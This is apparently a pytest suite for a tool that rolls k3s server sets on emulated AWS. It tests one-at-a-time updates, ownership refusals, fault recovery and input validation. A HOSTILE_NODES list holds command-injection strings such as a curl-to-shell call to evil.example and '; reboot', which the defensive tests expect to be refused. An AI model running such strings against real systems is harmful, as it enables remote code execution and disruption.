"""How a server set rolls: one server at a time, its majority kept, also when it is interrupted anywhere."""

import gzip
import json
import subprocess
from base64 import b64decode
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.request import urlopen

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.cloud.driving import Driver, attempt
from tests.cloud.faults import answered, faulty
from tests.cloud.rows.server_set import MARKER, inputs, needs
from tests.cloud.timing import FastClock

from edgefleet.cloud.server_machines import CONFIG, SET, SLOT, nodes_of
from edgefleet.cloud.server_set import ServerSet
from edgefleet.errors import EdgefleetError, InvalidInput, OutsideFailure, Refused
from edgefleet.io import run_command
from edgefleet.io.aws import Aws
from edgefleet.io.environment import Environment
from edgefleet.io.ownership import URN

pytestmark = pytest.mark.slow


@pytest.fixture
def environment(aws: Aws, tmp_path: Path) -> Environment:
    return Environment(project=tmp_path, aws=aws, clock=FastClock())


def story(aws: Aws) -> list[dict[str, list[str]]]:
    """What the fake cluster saw: ready and all nodes, look after look."""
    with urlopen(f"{aws.endpoint}/edgefleet-emulator/clusters") as answer:  # noqa: S310 - our own address
        found: dict[str, Any] = json.load(answer)
    told: list[dict[str, list[str]]] = found["hub"]["story"]
    return told


def machines(aws: Aws) -> list[dict[str, Any]]:
    found = aws.client("ec2").describe_instances(
        Filters=[{"Name": "instance-state-name", "Values": ["pending", "running"]}]
    )
    return [each for one in found["Reservations"] for each in one["Instances"]]


def places(aws: Aws) -> list[tuple[str, str]]:
    """(slot, type) of the machines that run."""
    tags = [{tag["Key"]: tag["Value"] for tag in each["Tags"]} for each in machines(aws)]
    return sorted((tag[SLOT], each["InstanceType"]) for tag, each in zip(tags, machines(aws), strict=True))


def brought_up(environment: Environment, servers: int = 3) -> tuple[Driver, dict[str, str]]:
    made = needs(environment.aws)
    driver = Driver(ServerSet(), environment)
    driver.up(inputs(made, servers=servers))
    return driver, made


def test_servers_lie_in_their_zones_encrypted_and_without_metadata_version_1(
    environment: Environment,
) -> None:
    """IMDSv2 only, one hop: a container cannot become the server."""
    driver, _ = brought_up(environment)
    assert driver.state is not None
    assert ["eu-central-1a", "eu-central-1b", "eu-central-1c"] == [
        each["zone"] for each in driver.state.outputs["members"]
    ]
    ec2 = environment.aws.client("ec2")
    for each in machines(environment.aws):
        assert ("required", 1) == (
            each["MetadataOptions"]["HttpTokens"],
            each["MetadataOptions"]["HttpPutResponseHopLimit"],
        )
        disks = [one["Ebs"]["VolumeId"] for one in each["BlockDeviceMappings"]]
        assert {True} == {one["Encrypted"] for one in ec2.describe_volumes(VolumeIds=disks)["Volumes"]}
    health = environment.aws.client("elbv2").describe_target_health(
        TargetGroupArn=driver.state.inputs["targetGroups"][0]
    )
    assert 3 == len(health["TargetHealthDescriptions"])


def others(environment: Environment) -> dict[str, tuple[Driver, dict[str, str], str]]:
    """Who else may have a set of this name: dict[who -> (driver, changed inputs, message)]."""
    return {
        "a stack of another name": (
            Driver(ServerSet(), environment, stack="other"),
            {},
            r"stack dev \(project fleet\) manages it as urn:pulumi:dev::fleet::edgefleet:aws:ServerSet::hub",
        ),
        "another stack of this name": (
            Driver(ServerSet(), replace(environment, holder="fedcba9876543210")),
            {},
            "another stack that is also called dev",
        ),
        "one of another cluster": (
            Driver(ServerSet(), environment),
            {"marker": "/retail/hub/other"},
            "this stack manages it as .*, with other inputs",
        ),
    }


@pytest.mark.parametrize(
    "who", ["a stack of another name", "another stack of this name", "one of another cluster"]
)
def test_servers_that_somebody_else_made_are_not_taken_over(who: str, environment: Environment) -> None:
    """Rolling them would end somebody else's hub, one server after another."""
    _, made = brought_up(environment, servers=1)
    before = machines(environment.aws)
    driver, changes, said = others(environment)[who]
    with pytest.raises(Refused, match=said):
        driver.up(inputs(made, servers=3, instanceType="t3.large", **changes))
    assert driver.state is None
    assert before == machines(environment.aws)


def test_one_server_of_somebody_else_among_ours_is_enough_to_stop(environment: Environment) -> None:
    """The first that is found says nothing about the others."""
    driver, made = brought_up(environment, servers=3)
    driver.state = None
    last = max(machines(environment.aws), key=lambda each: (str(each["LaunchTime"]), each["InstanceId"]))
    foreign = [{"Key": URN, "Value": "0" * 16}]
    environment.aws.client("ec2").create_tags(Resources=[last["InstanceId"]], Tags=foreign)
    with pytest.raises(Refused, match="already exists: this stack manages it; if that resource was renamed"):
        driver.up(inputs(made, servers=3))
    assert 3 == len(machines(environment.aws))


def test_servers_whose_making_was_never_recorded_are_found_again(environment: Environment) -> None:
    """The state has nothing, the cloud has them: no second set is made."""
    driver, made = brought_up(environment, servers=1)
    before = machines(environment.aws)
    driver.state = None
    driver.restart()
    driver.up(inputs(made, servers=1))
    assert before == machines(environment.aws)


def test_an_update_rolls_one_at_a_time_and_keeps_the_majority(environment: Environment) -> None:
    """Never fewer than three ready nodes, never more than four machines."""
    driver, made = brought_up(environment)
    before = len(story(environment.aws))
    driver.up(inputs(made, servers=3, instanceType="t3.large"))
    told = story(environment.aws)[before:]
    assert 3 == min(len(each["ready"]) for each in told)
    assert 4 == max(len(each["nodes"]) for each in told)
    assert [("0", "t3.large"), ("1", "t3.large"), ("2", "t3.large")] == places(environment.aws)
    assert driver.state is not None
    assert 3 == len(told[-1]["nodes"])


def test_it_grows_and_shrinks(environment: Environment) -> None:
    driver, made = brought_up(environment, servers=1)
    for count in (3, 5, 3, 1):
        driver.up(inputs(made, servers=count))
        assert count == len(machines(environment.aws)) == len(story(environment.aws)[-1]["nodes"])


def test_one_that_somebody_ended_is_replaced_and_its_member_removed(environment: Environment) -> None:
    """Refresh shows it, up repairs it."""
    driver, made = brought_up(environment)
    assert driver.state is not None
    victim = driver.state.outputs["members"][1]["instance"]
    environment.aws.client("ec2").terminate_instances(InstanceIds=[victim])
    driver.refresh()
    assert driver.state is not None
    assert "incomplete" == driver.state.outputs["state"]
    assert "state" in driver.diff(inputs(made, servers=3)).diffs
    driver.up(inputs(made, servers=3))
    assert driver.state is not None
    assert "complete" == driver.state.outputs["state"]
    nodes = story(environment.aws)[-1]["nodes"]
    assert victim not in nodes
    assert 3 == len(nodes)


def test_a_hub_without_servers_is_not_begun_anew_but_restored(environment: Environment) -> None:
    """The marker says that there was a cluster once."""
    driver, made = brought_up(environment)
    ec2 = environment.aws.client("ec2")
    ec2.terminate_instances(InstanceIds=[each["InstanceId"] for each in machines(environment.aws)])
    driver.refresh()
    assert driver.state is None
    with pytest.raises(OutsideFailure, match="all servers of the hub are gone"):
        driver.up(inputs(made, servers=3))
    assert [] == machines(environment.aws)
    texts = {"init": "a", "join": "#cloud-config\na: 2\n", "restore": "#cloud-config\nfrom: etcd-1\n"}
    driver.up(inputs(made, servers=3, userData=texts))
    first = min(machines(environment.aws), key=lambda each: each["LaunchTime"])
    answer = ec2.describe_instance_attribute(InstanceId=first["InstanceId"], Attribute="userData")
    assert texts["restore"] == gzip.decompress(b64decode(answer["UserData"]["Value"])).decode()
    assert 3 == len(machines(environment.aws)) == len(story(environment.aws)[-1]["nodes"])


@pytest.mark.faults
@pytest.mark.parametrize("kind", ["throttled", "lost"])
def test_an_update_that_is_interrupted_anywhere_goes_on(kind: str, aws: Aws, tmp_path: Path) -> None:
    """At every third call; the majority is never lost, and nothing is left over."""
    flaky, faults = faulty(str(aws.endpoint), "eu-central-1")
    made = needs(aws)
    driver = Driver(ServerSet(), Environment(project=tmp_path, aws=flaky, clock=FastClock()))
    driver.up(inputs(made, servers=3))
    types = ["t3.large", "t3.medium"]
    for number, at in enumerate(range(0, 400, 3)):
        before = len(story(aws))
        wanted = inputs(made, servers=3, instanceType=types[number % 2])
        faults.arm(kind, at)
        attempt(driver, wanted)
        has_struck = faults.has_struck
        faults.disarm()
        driver.restart()
        driver.up(wanted)
        driver.refresh()
        assert "same" == driver.up(wanted), f"call {at}"
        assert [(str(slot), types[number % 2]) for slot in range(3)] == places(aws), f"call {at}"
        assert 3 <= min(len(each["ready"]) for each in story(aws)[before:]), f"call {at}"
        if not has_struck:
            return
    pytest.fail("it takes more than 400 calls")


def test_a_new_version_of_k3s_rolls_nothing_and_skips_no_minor(environment: Environment) -> None:
    """Plans upgrade servers in place; what the preview shows is the version."""
    driver, made = brought_up(environment, servers=1)
    first = inputs(made, k3sVersion="v1.36.4+k3s1", rollOn="1")
    driver.up(first)
    (before,) = machines(environment.aws)
    driver.up({**first, "k3sVersion": "v1.37.0+k3s1", "userData": {"init": "x", "join": "y"}})
    (after,) = machines(environment.aws)
    assert before["InstanceId"] == after["InstanceId"]
    (failure,) = driver.check({**first, "k3sVersion": "v1.39.0+k3s1"})
    assert "skips 1.38" in failure


@pytest.mark.parametrize("count", [0, 2, 4, 7])
def test_a_number_without_a_majority_is_refused(count: int, environment: Environment) -> None:
    driver = Driver(ServerSet(), environment)
    (failure,) = driver.check(inputs(needs(environment.aws), servers=count))
    assert "write 1, 3 or 5" in failure


def test_an_image_of_the_wrong_architecture_is_reported_in_the_preview(environment: Environment) -> None:
    """Before anything is made."""
    made = needs(environment.aws)
    driver = Driver(ServerSet(), environment)
    with pytest.raises(InvalidInput, match="choose an image of the other architecture"):
        driver.preview(inputs(made, instanceType="m6g.large"))
    with pytest.raises(InvalidInput, match="no machine image"):
        driver.preview(inputs(made, image="ami-00000000"))


def test_a_profile_that_ec2_does_not_know_yet_is_waited_for(aws: Aws, tmp_path: Path) -> None:
    """IAM tells EC2 of it some seconds late."""
    flaky, _ = faulty(str(aws.endpoint), "eu-central-1")
    clock, refusals = FastClock(), iter(range(2))

    def late(request: Any, **_: Any) -> Any:
        if next(refusals, None) is None:
            return None
        said = (
            "Value (hub) for parameter iamInstanceProfile.name is invalid. Invalid IAM Instance Profile name"
        )
        return answered(request, 400, "InvalidParameterValue", said)

    flaky.client("ec2").meta.events.register("before-send.ec2.RunInstances", late)
    driver = Driver(ServerSet(), Environment(project=tmp_path, aws=flaky, clock=clock))
    driver.up(inputs(needs(aws), servers=1))
    assert 1 == len(machines(aws))
    assert clock.now >= 3


def test_what_a_server_is_made_of_stands_in_its_tags(environment: Environment) -> None:
    """So that a later run sees it."""
    driver, _ = brought_up(environment, servers=1)
    assert driver.state is not None
    (found,) = machines(environment.aws)
    tags = {tag["Key"]: tag["Value"] for tag in found["Tags"]}
    assert tags[CONFIG].startswith(driver.state.outputs["config"])
    assert environment.aws.client("ssm").get_parameter(Name=MARKER)["Parameter"]["Value"] == "begun"


HOSTILE_NODES = (
    "$(curl evil.example|sh)",
    "`reboot`",
    "a; reboot",
    "a\nb",
    "--all",
    "-l",
    "a' b",
    "../../etc",
    "A.Upper",
    "x" * 254,
    "",
    "i-0abc\u2028",
    "i-0abc\x1b[2J",
)


@pytest.mark.parametrize("name", HOSTILE_NODES)
def test_a_node_that_kubernetes_cannot_have_is_refused(name: str) -> None:
    """A server that was tampered with answers so; its words reach no other server."""
    with pytest.raises(OutsideFailure, match="is not one of Kubernetes"):
        nodes_of(f"i-0abc True\n{name} False\n", "ServerSet hub, i-0abc")


def test_nodes_are_read_with_their_state() -> None:
    """A node that has just joined has no state yet."""
    assert {"i-0abc": True, "ip-10-0-0-1.eu": False, "i-0def": False} == nodes_of(
        "i-0abc True\nip-10-0-0-1.eu Unknown\ni-0def \n", "a set"
    )


@given(words=st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))))
@settings(max_examples=60, deadline=None)
def test_every_word_of_a_command_is_one_word_of_the_shell_on_the_machine(words: list[str]) -> None:
    """Read back by a real shell, as AWS-RunShellScript gives the line to one."""
    sent: list[str] = []
    aws = Aws.emulated("http://127.0.0.1:1", "eu-central-1")

    def record(params: dict[str, Any], **_: Any) -> None:
        sent.extend(params["Parameters"]["commands"])
        raise OutsideFailure.at("test", "enough", "the command is known", "")

    aws.client("ssm").meta.events.register("provide-client-params.ssm.SendCommand", record)
    with pytest.raises(OutsideFailure, match="the command is known"):
        run_command.run("i-0abc", ("printf", "%s\\0", *words), Environment(project=Path(), aws=aws))
    shell = subprocess.run(["/bin/sh", "-c", sent[0]], capture_output=True, check=True)
    assert (words or [""]) == shell.stdout.decode().split("\0")[:-1]


def tagged_by_somebody(aws: Aws, instance: str, tags: dict[str, str]) -> str:
    """Another machine of the account that got the tags of a server."""
    ec2 = aws.client("ec2")
    image = ec2.describe_instances(InstanceIds=[instance])["Reservations"][0]["Instances"][0]["ImageId"]
    made = ec2.run_instances(ImageId=image, MinCount=1, MaxCount=1)["Instances"][0]["InstanceId"]
    ec2.create_tags(Resources=[made], Tags=[{"Key": key, "Value": value} for key, value in tags.items()])
    return str(made)


@pytest.mark.parametrize("extra", [{}, {URN: "0" * 16}], ids=["the set's tag alone", "another owner's, too"])
def test_a_machine_that_somebody_tagged_joins_nothing(
    environment: Environment, extra: dict[str, str]
) -> None:
    """Not the load balancer, not the outputs; and no server is rolled or removed beside it."""
    environment = replace(environment, holder="0123456789abcdef")
    driver, made = brought_up(environment, servers=1)
    assert driver.state is not None
    (own,) = machines(environment.aws)
    stranger = tagged_by_somebody(
        environment.aws, own["InstanceId"], {SET: "hub", SLOT: "0", CONFIG: "x/y", **extra}
    )
    driver.refresh()
    assert [own["InstanceId"]] == [member["instance"] for member in driver.state.outputs["members"]]
    said = f"{stranger}: tagged as a server of this set, but not by this stack"
    with pytest.raises(EdgefleetError, match=said):
        driver.up(inputs(made, servers=3))
    with pytest.raises(EdgefleetError, match=said):
        driver.destroy()
    assert {own["InstanceId"], stranger} == {each["InstanceId"] for each in machines(environment.aws)}
    group = driver.state.inputs["targetGroups"][0]
    health = environment.aws.client("elbv2").describe_target_health(TargetGroupArn=group)
    assert [own["InstanceId"]] == [each["Target"]["Id"] for each in health["TargetHealthDescriptions"]]


def test_a_slot_that_is_none_is_superfluous(environment: Environment) -> None:
    """Its tag was changed by somebody: the machine is replaced, not misread."""
    driver, made = brought_up(environment, servers=1)
    (own,) = machines(environment.aws)
    environment.aws.client("ec2").create_tags(
        Resources=[own["InstanceId"]], Tags=[{"Key": SLOT, "Value": "-1"}]
    )
    driver.refresh()
    driver.up(inputs(made, servers=1))
    assert [("0", "t3.medium")] == places(environment.aws)
